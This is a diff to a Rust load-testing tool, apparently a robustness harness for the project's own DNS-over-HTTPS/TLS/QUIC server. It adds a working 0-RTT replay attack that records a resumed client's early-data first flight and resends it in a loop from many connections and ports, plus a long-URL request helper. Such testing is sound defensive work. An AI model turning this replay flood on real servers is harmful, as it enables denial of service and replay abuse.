@@ -38,6 +38,11 @@ pub enum Attack {
     LongUrl,
     /// UDP: malformed datagrams as fast as the socket takes them.
     UdpGarbage,
+    /// TLS early data (DoT) or QUIC 0-RTT (DoQ, DoH/3) replayed: a client resumes with a
+    /// ticket and sends a query as early data (its handshake completed, its answer read);
+    /// its first flight, recorded byte for byte, is then sent again and again on new
+    /// connections (TCP) or from new ports (QUIC).
+    ZeroRttReplay,
 }
 
 impl std::str::FromStr for Attack {
@@ -53,6 +58,7 @@ impl std::str::FromStr for Attack {
             "quic-streams" => Attack::QuicStreams,
             "long-url" => Attack::LongUrl,
             "udp-garbage" => Attack::UdpGarbage,
+            "0rtt-replay" => Attack::ZeroRttReplay,
             _ => return Err(format!("unknown attack '{s}'")),
         })
     }
@@ -119,13 +125,15 @@ pub struct Tally {
     pub bytes: AtomicU64,
     /// Responses read (where the attack reads any).
     pub responses: AtomicU64,
+    /// 0-RTT replay: whether the server accepted the original flight's early data (1) or not.
+    pub early_accepted: AtomicU64,
 }
 
 impl Tally {
     /// One line of JSON.
     pub fn json(&self, plan: &Plan) -> String {
         format!(
-            "{{\"attack\":\"{:?}\",\"proto\":\"{:?}\",\"conns\":{},\"opened\":{},\"failed\":{},\"closed_by_server\":{},\"sent\":{},\"bytes\":{},\"responses\":{}}}",
+            "{{\"attack\":\"{:?}\",\"proto\":\"{:?}\",\"conns\":{},\"opened\":{},\"failed\":{},\"closed_by_server\":{},\"sent\":{},\"bytes\":{},\"responses\":{},\"early_accepted\":{}}}",
             plan.attack,
             plan.proto,
             plan.conns,
@@ -135,6 +143,7 @@ impl Tally {
             self.sent.load(Relaxed),
             self.bytes.load(Relaxed),
             self.responses.load(Relaxed),
+            self.early_accepted.load(Relaxed),
         )
     }
 }
@@ -151,6 +160,10 @@ pub fn run(plan: Plan) -> Arc<Tally> {
         let plan = Arc::new(plan);
         if plan.attack == Attack::UdpGarbage {
             udp_garbage(&plan, &t, deadline).await;
+            return;
+        }
+        if plan.attack == Attack::ZeroRttReplay {
+            zero_rtt_replay(plan.clone(), t.clone(), deadline).await;
             return;
         }
         let mut tasks = Vec::new();
@@ -184,7 +197,7 @@ async fn lane(i: usize, plan: &Plan, t: &Tally) {
             Attack::BigHeaders => h2_headers(i, plan, t, Some(1 << 20)).await,
             Attack::QuicStreams => quic_streams(plan, t).await,
             Attack::LongUrl => long_url(i, plan, t).await,
-            Attack::UdpGarbage => Ok(()),
+            Attack::UdpGarbage | Attack::ZeroRttReplay => Ok(()),
         };
         match r {
             Ok(()) => {
@@ -422,6 +435,79 @@ async fn long_url(i: usize, plan: &Plan, t: &Tally) -> Result<(), Failed> {
     }
 }
 
+/// One DoH GET whose URL is `/dns-query?dns=` and `len` octets of `A` over `proto` (DoH/1.1,
+/// DoH/2, DoH/3): the response's status, or how the server ended the request instead.
+pub fn long_get(proto: Proto, target: SocketAddr, len: usize) -> Result<u16, String> {
+    let _ = rustls::crypto::ring::default_provider().install_default();
+    let rt = tokio::runtime::Builder::new_current_thread().enable_all().build().expect("tokio runtime");
+    let local = tokio::task::LocalSet::new();
+    let plan = Plan {
+        attack: Attack::LongUrl,
+        proto,
+        target,
+        conns: 1,
+        duration: Duration::from_secs(10),
+        interval: Duration::from_secs(1),
+        sources: 1,
+    };
+    let path = format!("/dns-query?dns={}", "A".repeat(len));
+    local.block_on(&rt, async move {
+        let work = async {
+            match proto {
+                Proto::Doh1 => {
+                    let mut io = connect(0, &plan).await.map_err(|_| "connect".to_string())?;
+                    let req =
+                        format!("GET {path} HTTP/1.1\r\nhost: localhost\r\naccept: application/dns-message\r\n\r\n");
+                    io.write_all(req.as_bytes()).await.map_err(|e| format!("write: {e}"))?;
+                    let mut buf = vec![0u8; 4096];
+                    let n = io.read(&mut buf).await.map_err(|e| format!("read: {e}"))?;
+                    let head = String::from_utf8_lossy(&buf[..n]);
+                    head.strip_prefix("HTTP/1.1 ")
+                        .and_then(|r| r.get(..3))
+                        .and_then(|c| c.parse().ok())
+                        .ok_or_else(|| format!("no status line (read {n} bytes): {head:?}"))
+                }
+                Proto::Doh2 => {
+                    let io = connect(0, &plan).await.map_err(|_| "connect".to_string())?;
+                    let (client, conn) = h2::client::handshake(io).await.map_err(|e| format!("h2 handshake: {e}"))?;
+                    tokio::task::spawn_local(async move {
+                        let _ = conn.await;
+                    });
+                    let mut client = client.ready().await.map_err(|e| format!("h2 ready: {e}"))?;
+                    let uri = format!("https://localhost{path}");
+                    let req = http::Request::get(uri).header("accept", "application/dns-message").body(()).unwrap();
+                    let (resp, _) = client.send_request(req, true).map_err(|e| format!("h2 send: {e}"))?;
+                    let resp = resp.await.map_err(|e| format!("h2 response: {e}"))?;
+                    Ok(resp.status().as_u16())
+                }
+                Proto::Doh3 => {
+                    let mut tls = tls_config(b"h3");
+                    tls.enable_early_data = false;
+                    let crypto = quinn::crypto::rustls::QuicClientConfig::try_from(tls).map_err(|e| e.to_string())?;
+                    let mut ep = quinn::Endpoint::client(SocketAddr::from((Ipv4Addr::LOCALHOST, 0)))
+                        .map_err(|e| e.to_string())?;
+                    ep.set_default_client_config(quinn::ClientConfig::new(Arc::new(crypto)));
+                    let conn =
+                        ep.connect(target, "localhost").map_err(|e| e.to_string())?.await.map_err(|e| e.to_string())?;
+                    let (mut driver, mut send) =
+                        h3::client::new(h3_quinn::Connection::new(conn)).await.map_err(|e| format!("h3 setup: {e}"))?;
+                    tokio::task::spawn_local(async move {
+                        let _ = std::future::poll_fn(|cx| driver.poll_close(cx)).await;
+                    });
+                    let uri = format!("https://localhost{path}");
+                    let req = http::Request::get(uri).header("accept", "application/dns-message").body(()).unwrap();
+                    let mut stream = send.send_request(req).await.map_err(|e| format!("h3 send: {e}"))?;
+                    stream.finish().await.map_err(|e| format!("h3 finish: {e}"))?;
+                    let resp = stream.recv_response().await.map_err(|e| format!("h3 response: {e}"))?;
+                    Ok(resp.status().as_u16())
+                }
+                _ => Err("long_get speaks DoH/1.1, DoH/2 and DoH/3".to_string()),
+            }
+        };
+        tokio::time::timeout(Duration::from_secs(10), work).await.unwrap_or_else(|_| Err("no response in 10 s".into()))
+    })
+}
+
 // ---------------------------------------------------------------------------------------
 // HTTP/2
 
@@ -582,6 +668,216 @@ async fn quic_streams(plan: &Plan, t: &Tally) -> Result<(), Failed> {
         }
     }
     Ok(())
+}
+
+// ---------------------------------------------------------------------------------------
+// 0-RTT replay
+
+/// A client config that resumes and offers early data (its session store shared by the
+/// connections made with it).
+fn resuming_config(alpn: &[u8]) -> rustls::ClientConfig {
+    let mut c = tls_config(alpn);
+    c.resumption = rustls::client::Resumption::in_memory_sessions(8);
+    c.enable_early_data = true;
+    c
+}
+
+/// DoT: a full handshake and a query (the ticket arrives before the answer); then a resumed
+/// connection whose ClientHello carries a query as early data. Its first flight (ClientHello
+/// and the early data records, written before any byte from the server) is returned, after
+/// the handshake was completed and the answer read. A server whose tickets allow no early
+/// data (or that gave none) gets the ClientHello alone, and the query after the handshake.
+/// Blocking (rustls on std sockets).
+fn dot_first_flight(target: SocketAddr, t: &Tally) -> Option<Vec<u8>> {
+    use std::io::{Read, Write};
+    let config = Arc::new(resuming_config(b"dot"));
+    let name = rustls::pki_types::ServerName::try_from("localhost").ok()?;
+    let frame = |id| {
+        let q = query(id, "www.example.test");
+        let mut f = (q.len() as u16).to_be_bytes().to_vec();
+        f.extend_from_slice(&q);
+        f
+    };
+    let ask = |conn: &mut rustls::ClientConnection, sock: &mut std::net::TcpStream| -> Option<()> {
+        let mut tls = rustls::Stream::new(conn, sock);
+        let mut len = [0u8; 2];
+        tls.read_exact(&mut len).ok()?;
+        let mut answer = vec![0u8; u16::from_be_bytes(len) as usize];
+        tls.read_exact(&mut answer).ok()
+    };
+    let mut sock = std::net::TcpStream::connect(target).ok()?;
+    sock.set_read_timeout(Some(Duration::from_secs(5))).ok()?;
+    let mut conn = rustls::ClientConnection::new(config.clone(), name.clone()).ok()?;
+    rustls::Stream::new(&mut conn, &mut sock).write_all(&frame(1)).ok()?;
+    ask(&mut conn, &mut sock)?;
+    drop(sock);
+    // Resumed, with the query as early data.
+    let mut conn = rustls::ClientConnection::new(config, name).ok()?;
+    if let Some(mut early) = conn.early_data() {
+        early.write_all(&frame(2)).ok()?;
+    }
+    let mut flight = Vec::new();
+    while conn.wants_write() {
+        conn.write_tls(&mut flight).ok()?;
+    }
+    let mut sock = std::net::TcpStream::connect(target).ok()?;
+    sock.set_read_timeout(Some(Duration::from_secs(5))).ok()?;
+    sock.write_all(&flight).ok()?;
+    while conn.is_handshaking() {
+        conn.complete_io(&mut sock).ok()?;
+    }
+    t.early_accepted.store(u64::from(conn.is_early_data_accepted()), Relaxed);
+    if !conn.is_early_data_accepted() {
+        rustls::Stream::new(&mut conn, &mut sock).write_all(&frame(2)).ok()?;
+    }
+    ask(&mut conn, &mut sock)?;
+    Some(flight)
+}
+
+/// QUIC (DoQ, or DoH/3 with `alpn` h3): a connection that gets a ticket, then a resumed one
+/// through a relay that records the client's datagrams until the server's first one: the
+/// Initial (ClientHello) and the 0-RTT packets carrying the query (DoQ: a stream; DoH/3: a
+/// GET). Returns them once the answer was read.
+async fn quic_first_flight(proto: Proto, target: SocketAddr, t: &Tally) -> Option<Vec<Vec<u8>>> {
+    let alpn: &[u8] = if proto == Proto::Doh3 { b"h3" } else { b"doq" };
+    let crypto = quinn::crypto::rustls::QuicClientConfig::try_from(resuming_config(alpn)).ok()?;
+    let mut ep = quinn::Endpoint::client(SocketAddr::from((Ipv4Addr::LOCALHOST, 0))).ok()?;
+    ep.set_default_client_config(quinn::ClientConfig::new(Arc::new(crypto)));
+    let ask = |conn: quinn::Connection| async move {
+        if proto == Proto::Doh3 {
+            let (mut driver, mut send) = h3::client::new(h3_quinn::Connection::new(conn)).await.ok()?;
+            tokio::task::spawn_local(async move {
+                let _ = std::future::poll_fn(|cx| driver.poll_close(cx)).await;
+            });
+            let uri = format!("https://localhost/dns-query?dns={}", base64url(&query(0, "www.example.test")));
+            let req = http::Request::get(uri).header("accept", "application/dns-message").body(()).ok()?;
+            let mut stream = send.send_request(req).await.ok()?;
+            stream.finish().await.ok()?;
+            let resp = stream.recv_response().await.ok()?;
+            (resp.status() == 200).then_some(())
+        } else {
+            let (mut send, mut recv) = conn.open_bi().await.ok()?;
+            let q = query(0, "www.example.test");
+            let mut f = (q.len() as u16).to_be_bytes().to_vec();
+            f.extend_from_slice(&q);
+            send.write_all(&f).await.ok()?;
+            send.finish().ok()?;
+            let answer = recv.read_to_end(65_537).await.ok()?;
+            (answer.len() > 2).then_some(())
+        }
+    };
+    let first = ep.connect(target, "localhost").ok()?.await.ok()?;
+    ask(first.clone()).await?;
+    // The ticket comes after the handshake: give it a moment, then close.
+    tokio::time::sleep(Duration::from_millis(200)).await;
+    first.close(0u32.into(), b"");
+    // The relay: the client talks to `near`, which forwards to the server from `far`.
+    let near = tokio::net::UdpSocket::bind((Ipv4Addr::LOCALHOST, 0)).await.ok()?;
+    let far = tokio::net::UdpSocket::bind((Ipv4Addr::LOCALHOST, 0)).await.ok()?;
+    far.connect(target).await.ok()?;
+    let near_addr = near.local_addr().ok()?;
+    let relay = tokio::task::spawn_local(async move {
+        let mut flight: Vec<Vec<u8>> = Vec::new();
+        let mut recording = true;
+        let mut client = None;
+        let (mut a, mut b) = (vec![0u8; 65_536], vec![0u8; 65_536]);
+        loop {
+            tokio::select! {
+                r = near.recv_from(&mut a) => {
+                    let Ok((n, from)) = r else { break };
+                    client = Some(from);
+                    if recording {
+                        flight.push(a[..n].to_vec());
+                    }
+                    let _ = far.send(&a[..n]).await;
+                }
+                r = far.recv(&mut b) => {
+                    let Ok(n) = r else { break };
+                    recording = false;
+                    if let Some(c) = client {
+                        let _ = near.send_to(&b[..n], c).await;
+                    }
+                }
+                _ = tokio::time::sleep(Duration::from_secs(2)), if !recording => break,
+            }
+        }
+        flight
+    });
+    let connecting = ep.connect(near_addr, "localhost").ok()?;
+    let (conn, accepted) = connecting.into_0rtt().ok()?;
+    let answered = ask(conn.clone()).await;
+    let accepted = accepted.await;
+    t.early_accepted.store(u64::from(accepted), Relaxed);
+    answered?;
+    conn.close(0u32.into(), b"");
+    let flight = relay.await.ok()?;
+    (!flight.is_empty()).then_some(flight)
+}
+
+/// Records a 0-RTT first flight, then has `plan.conns` lanes send it again and again until
+/// the deadline: DoT on a new TCP connection each time (then read until the server closes
+/// it, or `interval`); QUIC from a new UDP port each time (reading what comes back for
+/// `interval`).
+async fn zero_rtt_replay(plan: Arc<Plan>, t: Arc<Tally>, deadline: Instant) {
+    let (target, proto) = (plan.target, plan.proto);
+    let flight: Vec<Vec<u8>> = if proto == Proto::Dot {
+        let t2 = t.clone();
+        match tokio::task::spawn_blocking(move || dot_first_flight(target, &t2)).await {
+            Ok(Some(f)) => vec![f],
+            _ => Vec::new(),
+        }
+    } else {
+        quic_first_flight(proto, target, &t).await.unwrap_or_default()
+    };
+    if flight.is_empty() {
+        t.failed.fetch_add(1, Relaxed);
+        return;
+    }
+    t.opened.fetch_add(1, Relaxed);
+    let flight = Arc::new(flight);
+    let mut tasks = Vec::new();
+    for i in 0..plan.conns {
+        let (plan, t, flight) = (plan.clone(), t.clone(), flight.clone());
+        tasks.push(tokio::task::spawn_local(async move {
+            let lane = async {
+                loop {
+                    let bytes: usize = flight.iter().map(Vec::len).sum();
+                    if proto == Proto::Dot {
+                        let Ok(mut s) = tcp(i, &plan).await else {
+                            t.failed.fetch_add(1, Relaxed);
+                            tokio::time::sleep(Duration::from_millis(50)).await;
+                            continue;
+                        };
+                        if s.write_all(&flight[0]).await.is_err() {
+                            continue;
+                        }
+                        t.sent.fetch_add(1, Relaxed);
+                        t.bytes.fetch_add(bytes as u64, Relaxed);
+                        if tokio::time::timeout(plan.interval, until_closed(&mut s)).await.is_ok() {
+                            t.closed_by_server.fetch_add(1, Relaxed);
+                        }
+                    } else {
+                        let src = Ipv4Addr::new(127, 0, 0, 1 + (i % plan.sources.max(1) as usize) as u8);
+                        let Ok(s) = tokio::net::UdpSocket::bind((src, 0)).await else { continue };
+                        for d in flight.iter() {
+                            let _ = s.send_to(d, target).await;
+                        }
+                        t.sent.fetch_add(1, Relaxed);
+                        t.bytes.fetch_add(bytes as u64, Relaxed);
+                        let mut buf = vec![0u8; 2048];
+                        let end = tokio::time::Instant::now() + plan.interval;
+                        while let Ok(Ok(_)) = tokio::time::timeout_at(end, s.recv(&mut buf)).await {
+                            t.responses.fetch_add(1, Relaxed);
+                        }
+                    }
+                }
+            };
+            let _ = tokio::time::timeout_at(deadline.into(), lane).await;
+        }));
+    }
+    for task in tasks {
+        let _ = task.await;
+    }
 }
 
 // ---------------------------------------------------------------------------------------
